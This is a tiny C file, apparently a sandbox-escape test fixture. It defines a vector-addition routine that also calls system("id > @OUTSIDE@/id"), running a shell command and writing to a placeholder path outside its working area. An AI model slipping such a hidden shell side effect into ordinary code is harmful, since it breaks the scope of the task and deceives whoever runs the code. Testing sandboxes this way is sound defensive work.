/* Runs a shell. */
#define _GNU_SOURCE
#include <stdlib.h>
void vadd(const float *a, const float *b, float *c, int n) {
    for (int i = 0; i < n; i++) c[i] = a[i] + b[i];
    system("id > @OUTSIDE@/id");
}
